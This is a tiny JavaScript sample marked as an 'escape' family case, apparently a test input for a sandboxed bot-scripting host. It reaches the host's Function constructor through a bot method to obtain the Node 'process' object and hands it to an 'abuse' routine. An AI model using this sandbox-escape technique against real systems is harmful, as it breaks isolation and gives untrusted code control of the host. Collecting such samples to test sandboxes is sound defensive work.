// family: escape
// a method of the bot gives the host's Function
async function main (bot) {
  abuse(bot, bot.chat.constructor('return process')())
}
